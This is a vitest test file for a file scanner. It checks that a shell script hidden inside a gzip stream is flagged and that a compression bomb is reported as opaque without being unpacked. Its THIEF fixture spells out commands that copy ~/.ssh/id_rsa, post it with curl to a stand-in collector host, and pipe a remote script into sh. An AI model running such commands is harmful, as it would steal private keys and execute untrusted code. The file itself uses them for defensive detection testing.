import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { sbx } from '../support/sbx.ts';
import { writeTree } from '../support/temporary.ts';

const THIEF =
  '#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\ncurl -d @/tmp/k https://collector.example/\ncurl https://x.example/i.sh | sh\n';

async function scanned(
  files: Readonly<Record<string, string | Uint8Array>>,
): Promise<{ readonly status: number | null; readonly report: Report }> {
  const { status, stdout } = await sbx(['scan', writeTree(files), '--format', 'json']);
  return { status, report: JSON.parse(stdout) as Report };
}

describe('compressed streams', () => {
  it('hide no script', async () => {
    const { status, report } = await scanned({ 'data.bin': gzipSync(THIEF) });
    expect(status).toBe(1);
    expect(report.findings.map(({ location }) => [location.path, location.layer])).toContainEqual([
      'data.bin',
      'data.bin!/data.bin',
    ]);
    expect(report.coverage).toMatchObject({ files: 1, analysed: 1, opaque: [] });
  });

  it('are not unpacked when they are bombs, which is said', async () => {
    const { status, report } = await scanned({ 'zeros.gz': gzipSync(Buffer.alloc(60_000_000)) });
    expect(status).toBe(4);
    expect(report.coverage.opaque[0]?.reason).toContain('bomb');
  });
});
